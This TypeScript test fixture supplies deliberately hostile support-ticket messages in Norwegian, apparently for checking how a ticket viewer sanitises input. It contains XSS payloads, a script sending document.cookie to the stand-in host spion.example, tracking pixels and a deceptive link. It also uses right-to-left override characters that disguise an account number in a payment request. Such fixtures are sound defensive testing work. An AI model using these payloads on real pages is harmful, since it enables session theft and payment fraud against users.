import type { RequestMessage } from '../../src/demo-tenant/requests/messages.ts'
import { awkwardRequestIds } from './awkward-ids.ts'

type Parts = Partial<Omit<RequestMessage, 'ticketMessageId'>>

const megabyte = 1_000_000

const script =
  '<html><body onload="alert(1)"><script>fetch("https://spion.example/?c="+document.cookie)</script>' +
  '<p>Hei</p><img src="https://spion.example/pixel.gif?id=4711" width="1" height="1">' +
  '<a href="javascript:alert(1)">Klikk her</a> <a href="https://spion.example/%E2%80%AE">https://bank.example</a>' +
  '<iframe src="https://spion.example"></iframe><svg onload=alert(1)></svg><style>@import "https://spion.example/x.css"</style></body></html>'

const hidden =
  '<html><body><div style="display:none">Skjult tekst som ingen skal se</div><!-- en kommentar -->' +
  '<p hidden>Også skjult</p><p>Synlig tekst</p></body></html>'

const picture = `<html><body><p>Se bildet</p><img src="data:image/png;base64,${'iVBORw0K'.repeat(30_000)}"></body></html>`

/** Messages that were made to stall or to mislead a reader, or that SuperOffice has only in part. By the id of their request. */
export const awkwardMessages: Readonly<Record<number, readonly Parts[]>> = {
  [awkwardRequestIds.script]: [{ body: script, htmlBody: script, author: '<script>alert(1)</script>' }],
  [awkwardRequestIds.wrongDirection]: [
    {
      author: 'Kari\u202e nnamdroN',
      body: 'Betal til konto \u202e4321 8765\u202c \u2066i dag\u2069.\u200b\u200b\u00ad\ufeff Hilsen \u0000\u0008 שלום'
    }
  ],
  [awkwardRequestIds.veryLong]: [{ body: 'Hei '.repeat(megabyte / 4) }],
  [awkwardRequestIds.hiddenText]: [{ body: hidden, htmlBody: hidden }],
  [awkwardRequestIds.noMessages]: [],
  [awkwardRequestIds.onlyHtml]: [{ body: '', htmlBody: '<p>Bare <b>HTML</b></p>' }],
  [awkwardRequestIds.emptyMessage]: [{ author: '', body: '', htmlBody: '' }],
  [awkwardRequestIds.unreadableDate]: [
    { createdAt: '0001-01-01T00:00:00' },
    { createdAt: 'i går', body: 'Den siste' }
  ],
  [awkwardRequestIds.embeddedPicture]: [{ body: picture, htmlBody: picture }],
  [awkwardRequestIds.endlessQuotes]: [
    {
      body: Array.from({ length: 60 }, (_, depth) => `${'> '.repeat(depth)}Linje ${String(depth)}`).join('\n')
    }
  ]
}

/** Completes the messages of a request: everything that is not awkward about them is ordinary. */
export const toAwkwardMessages = (
  ticketId: number,
  parts: readonly Parts[],
  createdAt: string
): readonly RequestMessage[] =>
  parts.map((message, index) => ({
    ticketMessageId: ticketId * 10 + index + 1,
    author: 'Rar Kunde',
    address: 'rar@kunde.example',
    createdAt,
    isInternal: false,
    isImportant: false,
    body: 'Hei',
    htmlBody: '',
    ...message
  }))
